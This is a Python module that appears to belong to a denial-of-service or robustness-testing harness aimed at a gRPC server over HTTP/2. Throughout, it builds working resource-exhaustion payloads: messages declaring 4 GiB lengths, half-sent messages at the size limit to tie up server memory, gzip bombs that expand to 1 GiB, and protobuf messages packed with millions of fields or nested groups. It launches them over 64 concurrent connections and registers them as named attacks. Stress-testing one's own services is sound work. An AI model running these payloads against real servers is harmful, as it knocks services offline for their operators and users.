"""Messages that promise more than they are, or are more than they promise."""

import functools
import gzip
import itertools
import struct

from attack import Attack
from attacker import LISTEN
from effort import Effort
from http2_bytes import (CLASSIFY, END_STREAM, PREFACE, check_with, data,
                         headers, pieces, settings)
from questions import (CLASSIFY_STREAM, REFLECTION, asked, begun, field,
                       prefixed, streams)

HELLO = PREFACE + settings()
CONNECTIONS = 64
LIMIT = 4 << 20  # of the server's, for one message
COMPRESSED = 1
GZIPPED = [*CLASSIFY, ("grpc-encoding", "gzip")]

# --- Declared -----------------------------------------------------------------


def declared(size, begin, calls):
    """Messages of `size` bytes by their prefix, of which `begin` come."""
    message = struct.pack(">BL", 0, size) + bytes(begin)
    return b"".join(begun(stream) + b"".join(data(stream, piece, 0)
                                             for piece in pieces(message))
                    for stream in streams(calls))


def huge_message_lengths(crowd, scale):
    effort = Effort(scale.messages, scale.seconds)
    blob = HELLO + declared(0xFFFFFFFF, 1000, calls=50)

    def script(me):
        yield blob
        effort.add(50)
        yield 0.1

    crowd.run(effort.repeat(script), CONNECTIONS)
    return f"{effort.done:,} messages of 4 GiB by their prefix"


def messages_at_the_limit(crowd, scale):
    """A quarter of each comes, so that the server has given it memory."""
    seconds = scale.seconds
    blob = HELLO + declared(LIMIT, LIMIT // 4, calls=8)

    def script(me):
        yield blob
        yield 2 * seconds

    crowd.run([script] * CONNECTIONS, CONNECTIONS)
    return f"{CONNECTIONS} x 8 messages of 4 MiB, of which 1 MiB comes"


# --- Compressed ---------------------------------------------------------------


@functools.cache
def bomb():
    """1 GiB of zeros in 1 MiB."""
    return gzip.compress(bytes(64 << 20)) * 16


def bombed(fields):
    message = prefixed(bomb(), COMPRESSED)
    return (HELLO + headers(1, fields)
            + b"".join(data(1, piece, 0) for piece in pieces(message))
            + data(1, b"", END_STREAM))


def gzip_bombs(crowd, scale):
    effort = Effort(scale.messages, scale.seconds)

    def script(blob):
        def run(me):
            yield blob
            effort.add()
            me.half_close()
            yield LISTEN
        return run

    scripts = [script(bombed(fields)) for fields in (CLASSIFY, GZIPPED)]
    crowd.run(effort.repeat(*scripts), at_once=8)
    return f"{effort.done:,} gzip bombs of 1 GiB, every second one declared"


# --- Made of as many fields as possible ---------------------------------------

LIST_MODELS = check_with((":path", "/neurite.v1.ModelService/ListModels"))
UNKNOWN = b"\x78\x01"
# Of a ClassifyRequest: the model, the input, top_k, rows, a packed and an
# unpacked value, and a group of unknown fields.
FIELDS = [b"\x0a\0", b"\x12\0", b"\x18\1", b"\x12\2\x08\1",
          b"\x12\6\x1a\4" + bytes(4), b"\x12\5\x1d" + bytes(4), UNKNOWN]


def full_of(fields):
    return prefixed(fields * (LIMIT // len(fields)))


def in_one(wrapper, inner):
    """One field, or group, that is full of others."""
    return prefixed(wrapper(inner * ((LIMIT - 16) // len(inner))))


@functools.cache
def messages_of_fields():
    classified = [*map(full_of, FIELDS),
                  in_one(lambda inner: b"\x7b" + inner + b"\x7c", UNKNOWN),
                  in_one(lambda inner: field(1, inner), b"\x0a\0"),
                  in_one(lambda inner: field(2, inner), b"\x1d" + bytes(4))]
    return [*((CLASSIFY, message) for message in classified),
            (CLASSIFY_STREAM, classified[0]), (LIST_MODELS, full_of(UNKNOWN)),
            (REFLECTION, full_of(UNKNOWN)), (REFLECTION, full_of(b"\x0a\0")),
            # As large as they may be; the last is one symbol with many dots.
            (LIST_MODELS, prefixed(UNKNOWN * 32_000)),
            (REFLECTION, prefixed(b"\x0a\0" * 32_000)),
            (REFLECTION, prefixed(field(4, b"a." * 32_000)))]


def messages_of_many_fields(crowd, scale):
    effort = Effort(max(2 * len(messages_of_fields()), scale.messages // 50),
                    scale.seconds)

    def script(fields, message):
        blob = HELLO + asked(1, message, fields)

        def run(me):
            yield blob
            effort.add()
            me.half_close()
            yield LISTEN
        return run

    crowd.run(effort.repeat(*itertools.starmap(script, messages_of_fields())),
              at_once=4)
    return f"{effort.done:,} messages that are made of two million fields"


ATTACKS = [
    Attack("messages_of_many_fields", messages_of_many_fields),
    Attack("huge_message_lengths", huge_message_lengths),
    Attack("messages_at_the_limit", messages_at_the_limit),
    Attack("gzip_bombs", gzip_bombs),
]
